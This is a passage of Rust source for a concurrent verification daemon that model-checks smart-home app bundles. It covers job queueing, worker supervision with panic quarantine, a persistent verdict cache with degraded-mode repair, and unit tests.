            &format!("repair probe {}/{REPROBE_LIMIT}", state.probes),
        );
        let probed = self.store.lock().unwrap_or_else(|e| e.into_inner()).reopen().cloned();
        match probed {
            Ok(recovery) => {
                flight::record(
                    Level::Warn,
                    EventCode::StoreRepair,
                    &format!(
                        "verdict store repaired after {} probe(s) ({recovery:?}); \
                         persistence resumed",
                        state.probes
                    ),
                );
                if let Some(since) = state.degraded_since.take() {
                    METRICS.daemon_degraded_ms.add(since.elapsed().as_millis() as u64);
                }
                METRICS.daemon_degraded.set(0);
                *state = HealthState::default();
                true
            }
            Err(e) => {
                if state.probes >= REPROBE_LIMIT {
                    flight::record(
                        Level::Error,
                        EventCode::StoreDegrade,
                        &format!(
                            "verdict store still failing after {REPROBE_LIMIT} repair \
                             probes ({e}); persistence disabled until restart"
                        ),
                    );
                    state.next_probe_at = None;
                } else {
                    state.next_probe_at = Some(now + self.retry.delay(state.probes));
                }
                false
            }
        }
    }
}

impl VerdictPersistence for StoreBacking {
    fn load(&mut self, fingerprint: Fingerprint) -> Option<GroupResult> {
        self.store.lock().unwrap_or_else(|e| e.into_inner()).get(fingerprint).cloned()
    }

    fn store(&mut self, fingerprint: Fingerprint, result: &GroupResult) -> bool {
        let mut state = self.health.lock();
        if !self.ensure_healthy(&mut state) {
            return false;
        }
        let mut store = self.store.lock().unwrap_or_else(|e| e.into_inner());
        match store.append(fingerprint, result) {
            Ok(()) => true,
            Err(e) => {
                let reason =
                    format!("verdict store append failed ({}): {e}", store.path().display());
                flight::record(
                    Level::Error,
                    EventCode::StoreDegrade,
                    &format!(
                        "{reason}; entering degraded mode (verdicts served from memory, \
                         writes suspended, repair probes backing off)"
                    ),
                );
                METRICS.daemon_degraded.set(1);
                // The automatic black-box dump: the ring's recent events
                // (including the fault the I/O seam injected, when one did)
                // land on stderr the moment persistence degrades.
                flight::dump_to_stderr(&format!("store degraded: {e}"));
                state.reason = Some(reason);
                state.probes = 0;
                state.next_probe_at = Some(Instant::now() + self.retry.delay(1));
                state.degraded_since = Some(Instant::now());
                false
            }
        }
    }
}

/// How a [`Daemon`] is shaped: where its store lives and how much work it
/// accepts at once.
#[derive(Debug, Clone)]
pub struct DaemonConfig {
    /// Path of the append-only verdict log.
    pub store_path: PathBuf,
    /// Eviction/compaction knobs for the store.
    pub store_options: StoreOptions,
    /// Worker threads verifying jobs concurrently (min 1).
    pub workers: usize,
    /// Bounded queue capacity; submission blocks when full (min 1).
    pub queue_capacity: usize,
    /// Retry/backoff knobs for panicking jobs and store repair probes.
    pub retry: RetryPolicy,
    /// Injected I/O fault schedule for the store (chaos testing); `None`
    /// uses the real disk.
    pub fault_plan: Option<FaultPlan>,
    /// Honor jobs' `inject_panic` testing hook; off by default, so a
    /// production daemon cannot be panicked from the job stream.
    pub fault_injection: bool,
}

impl DaemonConfig {
    /// A default-shaped daemon (2 workers, queue of 64, default retry
    /// policy, real disk) over `store_path`.
    pub fn new(store_path: impl Into<PathBuf>) -> Self {
        DaemonConfig {
            store_path: store_path.into(),
            store_options: StoreOptions::default(),
            workers: 2,
            queue_capacity: 64,
            retry: RetryPolicy::default(),
            fault_plan: None,
            fault_injection: false,
        }
    }
}

/// How a job ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum JobStatus {
    /// The job ran to completion (individual searches may still have been
    /// truncated by the job's own `timeout_ms` — see the rendered
    /// `truncated` field).
    Ok,
    /// The job was cancelled (mid-run via its token, or while still queued).
    Cancelled,
    /// The job could not run at all (bad bundle, translation failure).
    Invalid(String),
    /// The job's worker panicked on every attempt (see [`RetryPolicy`]),
    /// or the job class was already quarantined; the daemon itself keeps
    /// running.
    Failed {
        /// The panic payload of the last attempt (or the quarantine
        /// notice, for a duplicate failing fast).
        panic_message: String,
    },
}

/// The result of one submitted job.
#[derive(Debug, Clone)]
pub struct JobOutcome {
    /// Submission index (0-based, the order jobs were submitted in).
    pub index: usize,
    /// The job's correlation id.
    pub id: String,
    /// How the job ended.
    pub status: JobStatus,
    /// The merged fleet report; `None` when the job never ran.
    pub report: Option<FleetReport>,
    /// How many of this job's cache hits were served from the durable store
    /// (rather than daemon memory).
    pub backing_hits: usize,
    /// True when the persistence layer was degraded while this job ran:
    /// its verdicts are correct but some may not be durable (they
    /// re-verify after a restart).
    pub degraded: bool,
    /// Wall-clock time from dequeue to verdict.
    pub elapsed: Duration,
}

impl JobOutcome {
    /// Renders the outcome as one NDJSON result line, through the shared
    /// [`JsonRow`] serializer (the same writer the `repro`/BENCH rows and
    /// metrics snapshots use, so escaping and number formats cannot drift).
    pub fn render(&self) -> String {
        let mut row = JsonRow::with_capacity(128).str("id", &self.id);
        match &self.status {
            JobStatus::Ok => row = row.str("status", "ok"),
            JobStatus::Cancelled => row = row.str("status", "cancelled"),
            JobStatus::Invalid(error) => {
                return row.str("status", "invalid").str("error", error).finish();
            }
            JobStatus::Failed { panic_message } => {
                row = row.str("status", "failed").str("panic", panic_message);
            }
        }
        if let Some(report) = &self.report {
            let violated: Vec<String> =
                report.violated_properties().iter().map(|p| p.to_string()).collect();
            let truncated = report.groups.iter().any(|g| g.report.stats.truncated);
            row = row
                .num_u("groups", report.groups.len() as u64)
                .raw("violated_properties", &format!("[{}]", violated.join(",")))
                .num_u("violations", report.violation_count() as u64)
                .num_u("cache_hits", report.cache_hits as u64)
                .num_u("cache_misses", report.cache_misses as u64)
                .num_u("backing_hits", self.backing_hits as u64)
                .flag("truncated", truncated);
        }
        if self.degraded {
            row = row.flag("degraded", true);
        }
        row.fixed("elapsed_ms", self.elapsed.as_secs_f64() * 1000.0, 3).finish()
    }
}

/// Cumulative daemon statistics, reported at shutdown.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DaemonSummary {
    /// Jobs submitted over the daemon's lifetime.
    pub jobs: usize,
    /// Lifetime cache hits (memory or disk).
    pub cache_hits: usize,
    /// Lifetime cache misses (groups model-checked).
    pub cache_misses: usize,
    /// Lifetime hits served by the durable store.
    pub backing_hits: usize,
    /// Live entries in the verdict store at shutdown.
    pub store_entries: usize,
    /// Total records in the store's log at shutdown (live + superseded).
    pub store_records: usize,
    /// Job classes sitting in the poison quarantine at shutdown.
    pub quarantined: usize,
    /// True when persistence was degraded at shutdown (or the final sync
    /// failed): some verdicts may not be durable and will re-verify.
    pub degraded: bool,
}

#[derive(Debug, Default)]
struct QueueState {
    items: VecDeque<(usize, JobSpec)>,
    closed: bool,
}

/// A bounded multi-producer multi-consumer queue (mutex + condvars).
#[derive(Debug)]
struct JobQueue {
    state: Mutex<QueueState>,
    capacity: usize,
    not_empty: Condvar,
    not_full: Condvar,
}

impl JobQueue {
    fn new(capacity: usize) -> Self {
        JobQueue {
            state: Mutex::new(QueueState::default()),
            capacity: capacity.max(1),
            not_empty: Condvar::new(),
            not_full: Condvar::new(),
        }
    }

    /// Blocks while full; `Err` returns the job when the queue has closed.
    fn push(&self, index: usize, spec: JobSpec) -> Result<(), JobSpec> {
        let mut state = self.state.lock().unwrap_or_else(|e| e.into_inner());
        while state.items.len() >= self.capacity && !state.closed {
            state = self.not_full.wait(state).unwrap_or_else(|e| e.into_inner());
        }
        if state.closed {
            return Err(spec);
        }
        METRICS.daemon_jobs_accepted.inc();
        flight::record(
            Level::Debug,
            EventCode::JobAccepted,
            &format!("job `{}` (index {index})", spec.id),
        );
        state.items.push_back((index, spec));
        METRICS.daemon_queue_depth.set(state.items.len() as i64);
        self.not_empty.notify_one();
        Ok(())
    }

    /// Blocks while empty; `None` once the queue is closed and drained.
    fn pop(&self) -> Option<(usize, JobSpec)> {
        let mut state = self.state.lock().unwrap_or_else(|e| e.into_inner());
        loop {
            if let Some(item) = state.items.pop_front() {
                METRICS.daemon_queue_depth.set(state.items.len() as i64);
                self.not_full.notify_one();
                return Some(item);
            }
            if state.closed {
                return None;
            }
            state = self.not_empty.wait(state).unwrap_or_else(|e| e.into_inner());
        }
    }

    fn close(&self) {
        self.state.lock().unwrap_or_else(|e| e.into_inner()).closed = true;
        self.not_empty.notify_all();
        self.not_full.notify_all();
    }

    fn drain(&self) -> Vec<(usize, JobSpec)> {
        let mut state = self.state.lock().unwrap_or_else(|e| e.into_inner());
        let drained = state.items.drain(..).collect();
        METRICS.daemon_queue_depth.set(0);
        self.not_full.notify_all();
        drained
    }
}

/// The set of fingerprints some worker is currently verifying.  Claiming an
/// already-claimed fingerprint blocks until the owner finishes, then reports
/// "not claimed" so the caller re-consults the cache — two jobs sharing a
/// group never verify it twice.
#[derive(Debug, Default)]
struct Inflight {
    set: Mutex<std::collections::BTreeSet<Fingerprint>>,
    done: Condvar,
}

impl Inflight {
    /// `Some(guard)` when this caller now owns the verification of
    /// `fingerprint`; `None` after waiting for another worker to finish it.
    fn claim(&self, fingerprint: Fingerprint) -> Option<InflightGuard<'_>> {
        let mut set = self.set.lock().unwrap_or_else(|e| e.into_inner());
        if set.insert(fingerprint) {
            return Some(InflightGuard { inflight: self, fingerprint });
        }
        while set.contains(&fingerprint) {
            set = self.done.wait(set).unwrap_or_else(|e| e.into_inner());
        }
        None
    }
}

/// Releases the claimed fingerprint on drop (panic-safe: a crashed worker
/// never leaves a fingerprint claimed forever).
#[derive(Debug)]
struct InflightGuard<'a> {
    inflight: &'a Inflight,
    fingerprint: Fingerprint,
}

impl Drop for InflightGuard<'_> {
    fn drop(&mut self) {
        self.inflight.set.lock().unwrap_or_else(|e| e.into_inner()).remove(&self.fingerprint);
        self.inflight.done.notify_all();
    }
}

/// One quarantinable job class's failure history, keyed by
/// [`JobSpec::fingerprint`] so duplicates of a failing job — whatever
/// their correlation ids — share one attempt budget instead of each
/// re-running the doomed work.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PoisonEntry {
    /// Panicking attempts recorded for this job class.
    pub attempts: u32,
    /// The panic payload of the most recent attempt.
    pub last_message: String,
    /// True once the attempt budget is exhausted: further duplicates fail
    /// fast.
    pub quarantined: bool,
}

/// The fingerprint-keyed poison set shared by all workers.
#[derive(Debug, Default)]
struct PoisonRegistry {
    entries: Mutex<BTreeMap<u64, PoisonEntry>>,
}

impl PoisonRegistry {
    fn lock(&self) -> MutexGuard<'_, BTreeMap<u64, PoisonEntry>> {
        self.entries.lock().unwrap_or_else(|e| e.into_inner())
    }

    /// The quarantine entry for `key`, when `key` is quarantined.
    fn quarantined(&self, key: u64) -> Option<PoisonEntry> {
        self.lock().get(&key).filter(|e| e.quarantined).cloned()
    }

    /// Records one panicking attempt, quarantining the class once
    /// `max_attempts` is reached; returns the updated entry.
    fn record_failure(&self, key: u64, message: &str, max_attempts: u32) -> PoisonEntry {
        let mut entries = self.lock();
        let entry = entries.entry(key).or_insert(PoisonEntry {
            attempts: 0,
            last_message: String::new(),
            quarantined: false,
        });
        entry.attempts += 1;
        entry.last_message = message.to_string();
        entry.quarantined = entry.attempts >= max_attempts.max(1);
        entry.clone()
    }

    /// Forgets `key`'s failures after a completed (non-panicking) run.
    fn clear(&self, key: u64) {
        self.lock().remove(&key);
    }

    fn snapshot(&self) -> Vec<(u64, PoisonEntry)> {
        self.lock().iter().map(|(k, v)| (*k, v.clone())).collect()
    }

    fn quarantined_count(&self) -> usize {
        self.lock().values().filter(|e| e.quarantined).count()
    }
}

/// Where a store's quarantine sidecar lives: next to the log, with a
/// `.quarantine` extension (`verdicts.log` → `verdicts.quarantine`).
pub fn quarantine_sidecar_path(store_path: &Path) -> PathBuf {
    store_path.with_extension("quarantine")
}

/// Loads a quarantine sidecar (one JSON object per line:
/// `{"fingerprint":"<hex>","attempts":N,"message":"..."}`).  Best-effort by
/// design — an unreadable or malformed sidecar yields an empty set, never
/// an error, because quarantine is an optimization (a lost entry only
/// means the job class gets a fresh attempt budget).
pub fn load_quarantine(path: &Path) -> Vec<(u64, PoisonEntry)> {
    let Ok(raw) = std::fs::read_to_string(path) else {
        return Vec::new();
    };
    let mut entries = Vec::new();
    for line in raw.lines() {
        let Ok(value) = serde_json::from_str::<serde_json::Value>(line) else { continue };
        // The fingerprint travels as a hex string: FNV values use all 64
        // bits, which a JSON number (a double) cannot represent exactly.
        let Some(fingerprint) = value
            .get("fingerprint")
            .and_then(|v| v.as_str())
            .and_then(|s| u64::from_str_radix(s, 16).ok())
        else {
            continue;
        };
        let attempts = value.get("attempts").and_then(|v| v.as_f64()).unwrap_or(1.0) as u32;
        let message = value
            .get("message")
            .and_then(|v| v.as_str())
            .unwrap_or("quarantined in a previous run")
            .to_string();
        entries.push((
            fingerprint,
            PoisonEntry { attempts, last_message: message, quarantined: true },
        ));
    }
    entries
}

/// Writes the quarantined subset of `entries` to the sidecar.  Best
/// effort: a failure is reported on stderr but never stops the daemon —
/// the quarantine still protects the current process from memory.
fn save_quarantine(path: &Path, entries: &[(u64, PoisonEntry)]) {
    let mut out = String::new();
    for (fingerprint, entry) in entries.iter().filter(|(_, e)| e.quarantined) {
        out.push_str(&format!(
            "{{\"fingerprint\":\"{fingerprint:016x}\",\"attempts\":{},\"message\":\"{}\"}}\n",
            entry.attempts,
            json_escape(&entry.last_message)
        ));
    }
    if let Err(e) = std::fs::write(path, out) {
        flight::record(
            Level::Error,
            EventCode::Diagnostic,
            &format!("cannot persist quarantine sidecar {}: {e}", path.display()),
        );
    }
}

#[derive(Debug)]
struct Inner {
    queue: JobQueue,
    cache: Mutex<VerificationCache>,
    store: Arc<Mutex<VerdictStore>>,
    active: Mutex<Vec<(usize, CancelToken)>>,
    inflight: Inflight,
    results: Sender<JobOutcome>,
    health: Arc<StoreHealth>,
    poison: PoisonRegistry,
    retry: RetryPolicy,
    fault_injection: bool,
    quarantine_path: PathBuf,
}

/// The verification daemon: owns the store, the shared cache and the worker
/// pool.  See the [module docs](self) for the locking discipline.
#[derive(Debug)]
pub struct Daemon {
    inner: Arc<Inner>,
    workers: Vec<JoinHandle<()>>,
    receiver: Receiver<JobOutcome>,
    submitted: usize,
}

impl Daemon {
    /// Opens (or recovers) the verdict store at `config.store_path`
    /// (creating its parent directory when missing) and starts the worker
    /// pool.  Every filesystem failure propagates as an error — the
    /// caller decides the exit code, nothing panics.
    pub fn start(config: DaemonConfig) -> io::Result<Daemon> {
        if let Some(parent) = config.store_path.parent() {
            if !parent.as_os_str().is_empty() {
                std::fs::create_dir_all(parent)?;
            }
        }
        let store = Arc::new(Mutex::new(match config.fault_plan {
            Some(plan) => VerdictStore::open_with_io(
                &config.store_path,
                config.store_options,
                Box::new(FaultyIo::new(plan)),
            )?,
            None => VerdictStore::open_with(&config.store_path, config.store_options)?,
        }));
        let health = Arc::new(StoreHealth::default());
        let backing =
            StoreBacking::with_health(Arc::clone(&store), Arc::clone(&health), config.retry);
        let cache = VerificationCache::new().with_backing(Box::new(backing));
        let quarantine_path = quarantine_sidecar_path(&config.store_path);
        let poison = PoisonRegistry::default();
        for (key, entry) in load_quarantine(&quarantine_path) {
            poison.lock().insert(key, entry);
        }
        let (results, receiver) = channel();
        let inner = Arc::new(Inner {
            queue: JobQueue::new(config.queue_capacity),
            cache: Mutex::new(cache),
            store,
            active: Mutex::new(Vec::new()),
            inflight: Inflight::default(),
            results,
            health,
            poison,
            retry: config.retry,
            fault_injection: config.fault_injection,
            quarantine_path,
        });
        let workers = (0..config.workers.max(1))
            .map(|_| {
                let inner = Arc::clone(&inner);
                std::thread::spawn(move || worker_loop(&inner))
            })
            .collect();
        Ok(Daemon { inner, workers, receiver, submitted: 0 })
    }

    /// The recovery verdict of this daemon's store (what `open_with` found).
    pub fn recovery(&self) -> crate::store::Recovery {
        self.inner.store.lock().unwrap_or_else(|e| e.into_inner()).recovery().clone()
    }

    /// A shared handle on the verdict store (for status and compaction).
    pub fn store(&self) -> Arc<Mutex<VerdictStore>> {
        Arc::clone(&self.inner.store)
    }

    /// Why persistence is currently suspended — `None` while healthy.
    pub fn degraded(&self) -> Option<String> {
        self.inner.health.reason()
    }

    /// The poison set: every job class with recorded failures, keyed by
    /// [`JobSpec::fingerprint`] (quarantined or still within its attempt
    /// budget).
    pub fn poisoned(&self) -> Vec<(u64, PoisonEntry)> {
        self.inner.poison.snapshot()
    }

    /// Submits one job; blocks while the queue is full.  Returns the job's
    /// submission index.
    fn submit(&mut self, spec: JobSpec) -> usize {
        let index = self.submitted;
        self.submitted += 1;
        if self.inner.queue.push(index, spec.clone()).is_err() {
            // Queue already closed: report the job as cancelled.
            let _ = self.inner.results.send(cancelled_outcome(index, spec));
        }
        index
    }

    /// Submits a batch and waits for every outcome, returned in submission
    /// order.
    pub fn run_batch(&mut self, specs: Vec<JobSpec>) -> Vec<JobOutcome> {
        let expected = specs.len();
        for spec in specs {
            self.submit(spec);
        }
        let mut outcomes = Vec::with_capacity(expected);
        for _ in 0..expected {
            match self.receiver.recv() {
                Ok(outcome) => outcomes.push(outcome),
                Err(_) => break, // every worker died; return what we have
            }
        }
        outcomes.sort_by_key(|o| o.index);
        outcomes
    }

    /// Cancels every in-flight job (their searches stop at the next
    /// transition and report `truncated`) and drains still-queued jobs into
    /// explicit `cancelled` outcomes.
    pub fn cancel_all(&self) {
        for (_, token) in self.inner.active.lock().unwrap_or_else(|e| e.into_inner()).iter() {
            token.cancel();
        }
        for (index, spec) in self.inner.queue.drain() {
            let _ = self.inner.results.send(cancelled_outcome(index, spec));
        }
    }

    /// Closes the queue, waits for the workers to drain it, syncs the
    /// store (best effort — a failing disk at shutdown is reported as
    /// [`DaemonSummary::degraded`], not an error, so an injected fault can
    /// never make the daemon die on the way out) and reports lifetime
    /// statistics.
    pub fn shutdown(self) -> io::Result<DaemonSummary> {
        self.inner.queue.close();
        for worker in self.workers {
            let _ = worker.join();
        }
        let (cache_hits, cache_misses, backing_hits) = {
            let cache = self.inner.cache.lock().unwrap_or_else(|e| e.into_inner());
            (cache.hits(), cache.misses(), cache.backing_hits())
        };
        let mut store = self.inner.store.lock().unwrap_or_else(|e| e.into_inner());
        let mut degraded = self.inner.health.is_degraded();
        if !degraded {
            if let Err(e) = store.sync() {
                flight::record(
                    Level::Error,
                    EventCode::StoreDegrade,
                    &format!("final sync failed ({e}); recent verdicts may re-verify"),
                );
                degraded = true;
            }
        }
        // Close out a still-open degraded spell so the time-in-degraded
        // counter covers it (repair normally does this accounting).
        if let Some(since) = self.inner.health.lock().degraded_since.take() {
            METRICS.daemon_degraded_ms.add(since.elapsed().as_millis() as u64);
        }
        Ok(DaemonSummary {
            jobs: self.submitted,
            cache_hits,
            cache_misses,
            backing_hits,
            store_entries: store.len(),
            store_records: store.records(),
            quarantined: self.inner.poison.quarantined_count(),
            degraded,
        })
    }
}

fn cancelled_outcome(index: usize, spec: JobSpec) -> JobOutcome {
    record_terminal_status(&spec.id, &JobStatus::Cancelled);
    JobOutcome {
        index,
        id: spec.id,
        status: JobStatus::Cancelled,
        report: None,
        backing_hits: 0,
        degraded: false,
        elapsed: Duration::ZERO,
    }
}

/// Flushes one terminal job status to the telemetry registry and flight
/// recorder — the single point every outcome path funnels through.
fn record_terminal_status(id: &str, status: &JobStatus) {
    let label = match status {
        JobStatus::Ok => {
            METRICS.daemon_jobs_completed.inc();
            "ok"
        }
        JobStatus::Cancelled => {
            METRICS.daemon_jobs_cancelled.inc();
            "cancelled"
        }
        JobStatus::Invalid(_) => {
            METRICS.daemon_jobs_invalid.inc();
            "invalid"
        }
        JobStatus::Failed { .. } => {
            METRICS.daemon_jobs_failed.inc();
            "failed"
        }
    };
    flight::record(Level::Debug, EventCode::JobCompleted, &format!("job `{id}` {label}"));
}

fn worker_loop(inner: &Inner) {
    while let Some((index, spec)) = inner.queue.pop() {
        METRICS.daemon_inflight.add(1);
        flight::record(Level::Debug, EventCode::JobClaimed, &format!("job `{}`", spec.id));
        let outcome = run_supervised(inner, index, spec);
        METRICS.daemon_inflight.sub(1);
        record_terminal_status(&outcome.id, &outcome.status);
        if inner.results.send(outcome).is_err() {
            break; // the daemon handle is gone; no one is listening
        }
    }
}

/// Renders a `catch_unwind` payload (the two shapes `panic!` produces,
/// plus a fallback for exotic payloads).
fn panic_message(payload: Box<dyn std::any::Any + Send>) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "job panicked with a non-string payload".to_string()
    }
}

/// The supervision wrapper around [`execute_job`]: a panic becomes a
/// [`JobStatus::Failed`] outcome instead of a dead worker; panicking job
/// classes retry with capped exponential backoff and are quarantined once
/// the per-fingerprint attempt budget — shared by duplicates, so a doomed
/// job never re-runs once per copy — is exhausted.
fn run_supervised(inner: &Inner, index: usize, spec: JobSpec) -> JobOutcome {
    let started = Instant::now();
    let key = spec.fingerprint();
    loop {
        // A duplicate of an already-failed class observes the quarantine
        // instead of silently re-running the doomed job.
        if let Some(entry) = inner.poison.quarantined(key) {
            return JobOutcome {
                index,
                id: spec.id,
                status: JobStatus::Failed {
                    panic_message: format!(
                        "quarantined after {} failed attempt(s): {}",
                        entry.attempts, entry.last_message
                    ),
                },
                report: None,
                backing_hits: 0,
                degraded: inner.health.is_degraded(),
                elapsed: started.elapsed(),
            };
        }
        let attempt = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            execute_job(inner, index, spec.clone(), started)
        }));
        match attempt {
            Ok(outcome) => {
                // Any definite completion (ok/cancelled/invalid) clears the
                // class's failure history: it proved able to terminate.
                inner.poison.clear(key);
                return outcome;
            }
            Err(payload) => {
                let message = panic_message(payload);
                let entry = inner.poison.record_failure(key, &message, inner.retry.max_attempts);
                METRICS.daemon_retries.inc();
                flight::record(
                    Level::Warn,
                    EventCode::JobRetried,
                    &format!(
                        "job `{}` panicked (attempt {}/{}): {message}",
                        spec.id, entry.attempts, inner.retry.max_attempts
                    ),
                );
                if entry.quarantined {
                    METRICS.daemon_quarantines.inc();
                    flight::record(
                        Level::Error,
                        EventCode::JobQuarantined,
                        &format!(
                            "job `{}` quarantined after {} attempt(s): {message}",
                            spec.id, entry.attempts
                        ),
                    );
                    // The automatic black-box dump on a job that panicked
                    // its whole retry budget away.
                    flight::dump_to_stderr(&format!("job `{}` quarantined", spec.id));
                    save_quarantine(&inner.quarantine_path, &inner.poison.snapshot());
                    return JobOutcome {
                        index,
                        id: spec.id,
                        status: JobStatus::Failed { panic_message: message },
                        report: None,
                        backing_hits: 0,
                        degraded: inner.health.is_degraded(),
                        elapsed: started.elapsed(),
                    };
                }
                std::thread::sleep(inner.retry.delay(entry.attempts));
            }
        }
    }
}

fn invalid_outcome(index: usize, id: String, error: String, started: Instant) -> JobOutcome {
    JobOutcome {
        index,
        id,
        status: JobStatus::Invalid(error),
        report: None,
        backing_hits: 0,
        degraded: false,
        elapsed: started.elapsed(),
    }
}

/// Unregisters a job's cancel token on drop, so a panicking job cannot
/// leave a stale token in the active list.
struct ActiveGuard<'a> {
    inner: &'a Inner,
    index: usize,
}

impl Drop for ActiveGuard<'_> {
    fn drop(&mut self) {
        self.inner
            .active
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .retain(|(i, _)| *i != self.index);
    }
}

fn execute_job(inner: &Inner, index: usize, spec: JobSpec, started: Instant) -> JobOutcome {
    if spec.inject_panic && !inner.fault_injection {
        return invalid_outcome(
            index,
            spec.id,
            "`inject_panic` requires the daemon to enable fault injection".to_string(),
            started,
        );
    }
    let sources = match resolve_sources(&spec.bundle) {
        Ok(sources) => sources,
        Err(error) => return invalid_outcome(index, spec.id, error, started),
    };
    let refs: Vec<&str> = sources.iter().map(String::as_str).collect();
    let apps = match translate_sources(&refs) {
        Ok(apps) => apps,
        Err(error) => return invalid_outcome(index, spec.id, error.to_string(), started),
    };
    let config = expert_configure(&apps, &standard_household());

    let token = CancelToken::new();
    inner.active.lock().unwrap_or_else(|e| e.into_inner()).push((index, token.clone()));
    let _active = ActiveGuard { inner, index };

    let mut pipeline = Pipeline::with_events(spec.events);
    if spec.failures {
        pipeline = pipeline.with_failures();
    }
    if spec.workers > 1 {
        pipeline = pipeline.with_workers(spec.workers);
    }
    pipeline.search.time_limit = spec.timeout_ms.map(Duration::from_millis);
    pipeline.search = pipeline.search.clone().cancellable(token.clone());

    let planner = VerificationPlanner::new(&pipeline);
    let plan = planner.plan(&apps, &config);
    let (report, backing_hits) = execute_plan(&planner, &plan, inner, spec.inject_panic);

    let status = if token.is_cancelled() { JobStatus::Cancelled } else { JobStatus::Ok };
    let degraded = report.persist_failures > 0 || inner.health.is_degraded();
    JobOutcome {
        index,
        id: spec.id,
        status,
        report: Some(report),
        backing_hits,
        degraded,
        elapsed: started.elapsed(),
    }
}

/// [`VerificationPlanner::execute`] with a shared cache: lookups and inserts
/// hold the mutex, the model checker runs outside it, and the in-flight set
/// guarantees no fingerprint is verified twice concurrently.  Returns the
/// merged report plus how many of its hits came from the durable backing.
fn execute_plan(
    planner: &VerificationPlanner<'_>,
    plan: &FleetPlan,
    inner: &Inner,
    inject_panic: bool,
) -> (FleetReport, usize) {
    let mut groups: Vec<FleetGroupReport> = Vec::with_capacity(plan.jobs.len());
    let mut cache_hits = 0usize;
    let mut cache_misses = 0usize;
    let mut backing_hits = 0usize;
    let mut persist_failures = 0usize;
    for job in &plan.jobs {
        let (result, from_cache) = loop {
            let cached = {
                let mut cache = inner.cache.lock().unwrap_or_else(|e| e.into_inner());
                let disk_before = cache.backing_hits();
                let hit = cache.lookup(job.fingerprint);
                if hit.is_some() && cache.backing_hits() > disk_before {
                    backing_hits += 1;
                }
                hit
            };
            if let Some(cached) = cached {
                cache_hits += 1;
                break (cached, true);
            }
            // Claim the fingerprint; when another worker already owns it,
            // claim() blocks until that run finishes and we re-consult the
            // cache (the owner's result may be there — or not, if it was
            // truncated, in which case this job verifies under its own
            // budget).
            let Some(_guard) = inner.inflight.claim(job.fingerprint) else {
                continue;
            };
            if inject_panic {
                // The gated testing hook fires exactly where a real model
                // bug would: mid-search, while this worker holds the
                // in-flight claim for the group.
                panic!("injected panic while verifying group [{}]", job.apps.join(", "));
            }
            cache_misses += 1;
            let fresh = planner.verify_job(job);
            // Same discipline as VerificationPlanner::execute: a report
            // truncated by a budget (or cancellation) is never cached.
            if !fresh.report.stats.truncated {
                let mut cache = inner.cache.lock().unwrap_or_else(|e| e.into_inner());
                let failures_before = cache.persist_failures();
                cache.insert(job.fingerprint, fresh.clone());
                persist_failures += cache.persist_failures() - failures_before;
            }
            break (fresh, false);
        };
        let attributions = attribute_traces(&result.apps, &result.report.violations);
        groups.push(FleetGroupReport {
            apps: result.apps,
            fingerprint: job.fingerprint,
            from_cache,
            report: result.report,
            attributions,
        });
    }
    groups.sort_by(|a, b| a.apps.cmp(&b.apps));
    let report = FleetReport {
        groups,
        excluded_apps: plan.excluded_apps.clone(),
        original_handlers: plan.original_handlers,
        reduced_handlers: plan.reduced_handlers,
        cache_hits,
        cache_misses,
        persist_failures,
    };
    (report, backing_hits)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::job::BundleSpec;
    use crate::store::Recovery;
    use std::path::Path;

    fn temp_store(name: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("iotsan-daemon-{}-{name}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        dir.join("verdicts.log")
    }

    fn market_job(id: &str, n: usize) -> JobSpec {
        JobSpec {
            id: id.into(),
            bundle: BundleSpec::Market(n),
            events: 2,
            workers: 1,
            failures: false,
            timeout_ms: None,
            inject_panic: false,
        }
    }

    fn start(path: &Path) -> Daemon {
        Daemon::start(DaemonConfig::new(path)).unwrap()
    }

    #[test]
    fn identical_jobs_share_the_cache() {
        let path = temp_store("share");
        let mut daemon = start(&path);
        let outcomes = daemon.run_batch(vec![market_job("a", 4), market_job("b", 4)]);
        assert_eq!(outcomes.len(), 2);
        let total_hits: usize =
            outcomes.iter().map(|o| o.report.as_ref().unwrap().cache_hits).sum();
        let total_misses: usize =
            outcomes.iter().map(|o| o.report.as_ref().unwrap().cache_misses).sum();
        // Two identical jobs over one shared cache: every group is verified
        // at most once, the rest are hits (which job wins each race varies).
        let groups = outcomes[0].report.as_ref().unwrap().groups.len();
        assert_eq!(total_hits + total_misses, 2 * groups);
        assert_eq!(total_misses, groups);
        let a = outcomes[0].report.as_ref().unwrap().outcome();
        let b = outcomes[1].report.as_ref().unwrap().outcome();
        assert_eq!(a, b);
        let summary = daemon.shutdown().unwrap();
        assert_eq!(summary.jobs, 2);
        assert_eq!(summary.store_entries, groups);
    }

    #[test]
    fn restart_replays_verdicts_from_disk() {
        let path = temp_store("restart");
        let mut cold = start(&path);
        let cold_outcomes = cold.run_batch(vec![market_job("cold", 4)]);
        let cold_report = cold_outcomes[0].report.as_ref().unwrap().clone();
        assert_eq!(cold_outcomes[0].backing_hits, 0);
        cold.shutdown().unwrap();

        let mut warm = start(&path);
        assert!(matches!(warm.recovery(), Recovery::Clean { .. }));
        let warm_outcomes = warm.run_batch(vec![market_job("warm", 4)]);
        let warm_report = warm_outcomes[0].report.as_ref().unwrap();
        assert_eq!(warm_report.cache_misses, 0);
        assert_eq!(warm_outcomes[0].backing_hits, warm_report.groups.len());
        // Replayed reports are byte-identical, timing included.
        for (c, w) in cold_report.groups.iter().zip(&warm_report.groups) {
            assert_eq!(c.report, w.report);
        }
        warm.shutdown().unwrap();
    }

    #[test]
    fn invalid_jobs_report_errors() {
        let path = temp_store("invalid");
        let mut daemon = start(&path);
        let outcomes = daemon.run_batch(vec![JobSpec {
            id: "bad".into(),
            bundle: BundleSpec::Named(vec!["No Such App".into()]),
            events: 2,
            workers: 1,
            failures: false,
            timeout_ms: None,
            inject_panic: false,
        }]);
        assert!(matches!(&outcomes[0].status, JobStatus::Invalid(e) if e.contains("No Such App")));
        let line = outcomes[0].render();
        assert!(line.contains("\"status\":\"invalid\""), "{line}");
        daemon.shutdown().unwrap();
